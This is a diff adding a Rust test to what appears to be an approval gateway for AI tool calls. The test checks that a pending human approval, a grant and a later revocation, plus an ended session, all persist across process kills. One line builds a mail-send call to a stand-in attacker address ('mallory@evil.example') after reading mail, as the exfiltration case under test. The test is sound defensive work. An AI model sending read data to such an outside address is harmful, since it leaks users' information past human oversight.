@@ -131,6 +131,45 @@ fn a_value_out_of_a_mail_waits_for_a_person_who_endorses_it_once() {
 }
 
 #[test]
+fn what_was_read_and_what_a_person_answered_outlive_a_kill() {
+    let Some(binary) = binary() else { return };
+    let office = McpServer::start(office);
+    let mut desk = Desk::approved(binary, &office.url());
+    let killed = |desk: Desk| Desk { world: desk.world.killed(), key: desk.key };
+    let begun = desk.ask("initialize", json!({"protocolVersion": "2025-06-18"}));
+    let session = begun.header("mcp-session-id").expect("a session").to_owned();
+    let send = json!({"name": "office__send", "arguments": {"to": "mallory@evil.example"}});
+    let read = json!({"name": "office__read"});
+    let in_session = |desk: &Desk, params: &Value| desk.ask_in(Some(&session), "tools/call", params.clone());
+    assert_eq!(code(&in_session(&desk, &read).json()), "none");
+
+    // What a mail said is not the client's own because the server died.
+    desk = killed(desk);
+    let held = in_session(&desk, &send).json();
+    assert_eq!(code(&held), "TG0002", "{held}");
+    let id = held["result"]["_meta"]["bedplate/error"]["approval"]["id"].as_str().expect("an id").to_owned();
+    // Nor is the question gone that a person was told of.
+    desk = killed(desk);
+    let again = in_session(&desk, &send).json();
+    assert_eq!(again["result"]["_meta"]["bedplate/error"]["approval"]["id"], json!(id), "{again}");
+    desk.world.run(&["approval", "grant", &id]).exits(0);
+    desk = killed(desk);
+    assert_eq!(code(&in_session(&desk, &send).json()), "none");
+    assert_eq!(office.count("tools/call"), 2, "read, and sent once");
+    // A grant that was taken back does not come back.
+    desk.world.run(&["approval", "deny", &id]).exits(0);
+    desk = killed(desk);
+    assert_eq!(code(&in_session(&desk, &send).json()), "TG0004");
+    desk.world.run(&["approval", "grant", &id]).exits(1);
+    // And a session that was ended is one that has to begin.
+    let end = Ask::new("DELETE", "/mcp").key(&desk.key).header("mcp-session-id", &session);
+    assert_eq!(desk.world.send(&end).status, 204);
+    desk = killed(desk);
+    assert_eq!(in_session(&desk, &read).status, 404);
+    desk.world.is_sound();
+}
+
+#[test]
 fn a_denied_value_is_blocked_and_a_stranger_sees_no_tools() {
     let Some(binary) = binary() else { return };
     let office = McpServer::start(office);
